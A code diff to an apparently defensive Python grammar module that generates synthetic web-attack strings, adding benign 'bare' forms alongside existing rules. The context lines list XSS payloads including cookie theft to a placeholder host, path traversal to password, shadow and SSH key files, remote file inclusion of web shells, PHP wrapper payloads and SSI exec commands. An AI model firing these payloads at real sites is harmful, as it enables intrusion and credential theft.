@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 from typing import Final
 
+from weirlog.models.corpus.bare_forms import FILE_FORMS, MARKUP_FORMS
 from weirlog.models.corpus.grammar import Chance, Grammar, Rules
 from weirlog.models.corpus.values import TERMINALS
 
@@ -36,7 +37,7 @@ def _dotted_integer(chance: Chance) -> str:
 
 
 _XSS: Final[Rules] = {
-    "xss": ["«tag»", "«tag»", "«tag»", "«breakout»«tag»", "«breakout»«tag»", "«attribute»", "«scheme»", "«scheme»", "javascript:«run»", "\"><script>«run»</script>", "<script>«run»</script>", "<img src=x «event»=«run»>", "<svg «event»=«run»>", "«inside»", "«before»«tag»", "«breakout»«attribute»", "«css»"],
+    "xss": ["«bare_markup»", "«bare_markup»", "«bare_markup»", "«tag»", "«tag»", "«tag»", "«breakout»«tag»", "«breakout»«tag»", "«attribute»", "«scheme»", "«scheme»", "javascript:«run»", "\"><script>«run»</script>", "<script>«run»</script>", "<img src=x «event»=«run»>", "<svg «event»=«run»>", "«inside»", "«before»«tag»", "«breakout»«attribute»", "«css»"],
     "before": ["«word»", "«sentence»", "«n»", "«rnd»"],
     "breakout": ["\">", "'>", "\"/>", "'/>", "</title>", "</textarea>", "</script>", "-->", "\"><", "</style>", ">", "\">\">", "';", "\";", "</noscript>", "<!--", "]]>", "\" >", "</p>", "«word»\">", "«n»'>"],
     "run": ["alert(«d»)", "alert(1)", "alert('«word»')", "alert(document.cookie)", "alert(document.domain)", "confirm(«d»)", "prompt(«n»)", "alert`«d»`", "print()", "document.location='http://«host»/?c='+document.cookie", "eval(«codes»)", "eval(atob('«b64»'))",
@@ -77,12 +78,12 @@ _FILES: Final[Rules] = {
                "META-INF/MANIFEST.MF", "var/run/secrets/kubernetes.io/serviceaccount/token", "etc/resolv.conf", "database.yml", "global.asa", "usr/bin/id", "bin/sh", "apache/logs/error.log", "etc/mysql/my.cnf", "var/www/html/index.php", "autoexec.bat", "localstart.asp", ".htpasswd", "etc/motd"],
     "tail": ["", "", "", "", "", "%00", "%00.jpg", "%00.html", "?", "\u0000", "\u0000.png", "%2500.jpg", "/.", "::$data", ";index.html", "%23", "#", "%20", "/"],
     "front": ["", "", "", "", "/", "«word»/", "/var/www/images/", "file:///", "«noun»/«noun»/", "./", "C:\\", "/static/", "images/", "\\", "/opt/«word»/", "public/plugins/«word»/", "«file»/", "en/", "download.php?f="],
-    "traversal": ["«hop»«hop»«console»", "/«noun»/«hop»«console»", "/«hop»«hop»«target»", "«noun»/«hop»«hop»«hop»«target»", "/«noun»;/«hop»«console»", "«front»«climb»«target»«tail»", "«front»«climb»«target»«tail»", "«front»«climb»«target»«tail»", "«front»«climb»«target»«tail»", "/«system»«tail»", "«system_windows»«tail»", "file:///«system»", "«front»«climb»«climb»«target»", "/«system»", "«front»«climb»", "..\\..\\«climb»", "/cgi-bin/«climb»bin/sh", "/%2e%2e/%2e%2e/«target»", "/proc/self/root/«target»", "~root/«target»", "....//....//«target»"],
+    "traversal": ["«bare_path»", "«bare_path»", "«bare_path»", "«bare_path»", "«bare_path»", "«bare_path»", "«bare_path»", "«bare_path»", "«hop»«hop»«console»", "/«noun»/«hop»«console»", "/«hop»«hop»«target»", "«noun»/«hop»«hop»«hop»«target»", "/«noun»;/«hop»«console»", "«front»«climb»«target»«tail»", "«front»«climb»«target»«tail»", "«front»«climb»«target»«tail»", "«front»«climb»«target»«tail»", "/«system»«tail»", "«system_windows»«tail»", "file:///«system»", "«front»«climb»«climb»«target»", "/«system»", "«front»«climb»", "..\\..\\«climb»", "/cgi-bin/«climb»bin/sh", "/%2e%2e/%2e%2e/«target»", "/proc/self/root/«target»", "~root/«target»", "....//....//«target»"],
     "system": ["etc/passwd", "etc/shadow", "etc/passwd", "proc/self/environ", "etc/group", "root/.ssh/id_rsa", "proc/self/cmdline", "etc/master.passwd", "etc/security/passwd", "proc/1/maps", "var/log/apache2/access_log", "var/log/messages", "var/log/httpd/error_log", "usr/local/lib/php.ini", "private/etc/httpd/httpd.conf", "var/www/«word»/.htaccess", "usr/local/apache/conf/php.ini", "var/spool/cron/crontabs/root", "proc/self/status", "etc/php.ini", "opt/lampp/logs/access_log", "WEB-INF/web.xml", "usr/local/etc/nginx/nginx.conf"],
     "system_windows": ["c:\\windows\\win.ini", "c:/boot.ini", "c:\\winnt\\system32\\cmd.exe", "C:/Windows/system32/drivers/etc/hosts", "\\\\«ip»\\c$\\«word»", "c:\\inetpub\\wwwroot\\web.config", "C:\\windows\\system32\\config\\sam", "c:/windows/system.ini", "\\\\localhost\\admin$", "%SYSTEMROOT%\\repair\\sam"],
     "evil": ["http://«host»/«shell»", "http://«ip»/«shell»", "https://«host»/«word»/«shell»", "ftp://«host»/«shell»", "hTTp://«host»/«shell»", "//«ip»/«shell»", "\\\\«ip»\\«word»\\«word».php", "http://«ip»:«nn»/«shell»", "ftp://«word»:«word»@«host»/«shell»", "http://cirt.net/rfiinc.txt?", "http://«host»/«word»/id.txt??"],
     "shell": ["shell.jsp", "cmd.jsp?", "shell.asp", "shell.php5", "evil.cfm", "x.php?«word»=", "shell.txt", "shell.txt?", "c99.txt?", "r57.txt??", "cmd.txt?", "«word».txt?", "evil.php", "«word».txt%00", "cmd.gif?&cmd=id", "id.txt???", "shell.php?cmd=ls", "backdoor.php", "rfi.txt?", "x.txt?cmd=whoami", "inc.txt??", "phpinfo.txt?", "test.txt?", "bot.txt??", "cmd.php?"],
-    "rfi": ["«evil»", "«evil»", "«evil»", "php://filter/convert.base64-encode/resource=«word».php", "php://filter/read=string.rot13/resource=index.php", "php://input", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "expect://id", "expect://ls", "phar://«word».phar/«word»", "zip://«word».jpg%23«word»",
+    "rfi": ["«bare_inclusion»", "«bare_inclusion»", "«bare_inclusion»", "«bare_inclusion»", "«bare_inclusion»", "«evil»", "«evil»", "«evil»", "php://filter/convert.base64-encode/resource=«word».php", "php://filter/read=string.rot13/resource=index.php", "php://input", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "expect://id", "expect://ls", "phar://«word».phar/«word»", "zip://«word».jpg%23«word»",
             "data:text/plain,<?php system('id'); ?>", "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd", "compress.zlib://«word»", "glob:///var/www/*", "php://filter/convert.iconv.utf-8.utf-16/resource=config", "pHp://FilTer/convert.base64-encode/resource=../«word».php", "php://fd/3", "ogg://«word»", "data:;base64,PD9waHAgcGhwaW5mbygpOw=="],
     "inner": _dotted_integer,
     "reachable": ["127.0.0.1", "127.0.0.1", "localhost", "localhost", "192.168.«d».«small»", "10.«d».«d».«small»", "172.16.«d».«small»", "0.0.0.0", "[::1]", "169.254.169.254", "«inner»"],
@@ -115,4 +116,4 @@ _DOCUMENTS: Final[Rules] = {
     "ssi": ["<!--#exec cmd=\"«cmd»\"-->", "<!--#exec cmd=\"«cmd»\" -->", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#include file=\"«climb»«target»\"-->", "<!--#echo var=\"DOCUMENT_ROOT\"-->", "<!--#printenv-->", "<esi:include src=\"http://«host»/\"/>", "<!--#exec cgi=\"/cgi-bin/«word».cgi\"-->", "<!--#config errmsg=\"«word»\"-->", "<!--#set var=\"«word»\" value=\"«word»\"-->", "<!--#exec%20cmd='«cmd»'-->", "\"><!--#exec cmd=\"«cmd»\"-->", "<!--#flastmod file=\"«word».html\"-->", "<esi:include src=\"http://«inner»/\" stylesheet=\"http://«host»/x.xsl\"/>"],
 }  # fmt: skip
 
-MARKUP_GRAMMAR: Final = Grammar(TERMINALS, _FILES, _DOCUMENTS, _XSS)
+MARKUP_GRAMMAR: Final = Grammar(TERMINALS, FILE_FORMS, MARKUP_FORMS, _FILES, _DOCUMENTS, _XSS)
